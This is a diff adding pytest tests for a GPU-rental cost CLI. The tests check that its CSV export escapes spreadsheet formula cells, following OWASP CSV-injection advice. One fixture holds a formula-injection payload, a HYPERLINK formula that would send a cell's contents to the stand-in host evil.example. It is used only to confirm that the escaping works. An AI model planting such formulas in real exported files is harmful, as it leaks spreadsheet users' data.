@@ -261,3 +261,35 @@ def test_text_with_control_characters_is_refused_where_it_is_read(
     result = cli("plan", str(workloads))
     assert result.exit_code == 2, result.output
     assert code in result.stderr and "workloads[0] (name 'chat').description" in result.stderr
+
+
+# --------------------------------------------------------------------------- CSV for spreadsheets
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(cli: Callable[..., Result], tmp_path: Path) -> None:
+    """OWASP's CSV-injection advice: a cell starting with = + - @ is prefixed with ', numbers are not."""
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    overlay = tmp_path / "offer.yaml"
+    overlay.write_text(
+        yaml.safe_dump({"rental_offers": [{"id": "formula-l40s", "provider": formula, "gpu": "l40s-48gb",
+                                           "usd_per_gpu_hour": 0.01, "pricing": "on-demand",
+                                           "source": "@SUM(1+1)", "as_of": "2025-06-01"}]}),  # fmt: skip
+        encoding="utf-8",
+    )
+    result = cli("crossover", "--rps", "5", "-m", "llama-3.1-8b", "-g", "l40s", "--catalog", str(overlay),
+                 "--format", "csv")  # fmt: skip
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows and rows[0]["provider"] == "'" + formula
+    assert all(not v.startswith(("=", "+", "@")) for row in rows for v in row.values())
+    assert float(rows[0]["usd_per_gpu_hour"]) == 0.01  # numbers stay numbers
+
+
+def test_csv_text_leaves_numbers_and_plain_text_alone() -> None:
+    from selfhost.escape import csv_text
+
+    assert [csv_text(t) for t in ("-4330", "+1.5", "RunPod", "a=b", "-x", "@x", "\tx")] == [
+        "-4330", "+1.5", "RunPod", "a=b", "'-x", "'@x", "'\tx"]  # fmt: skip
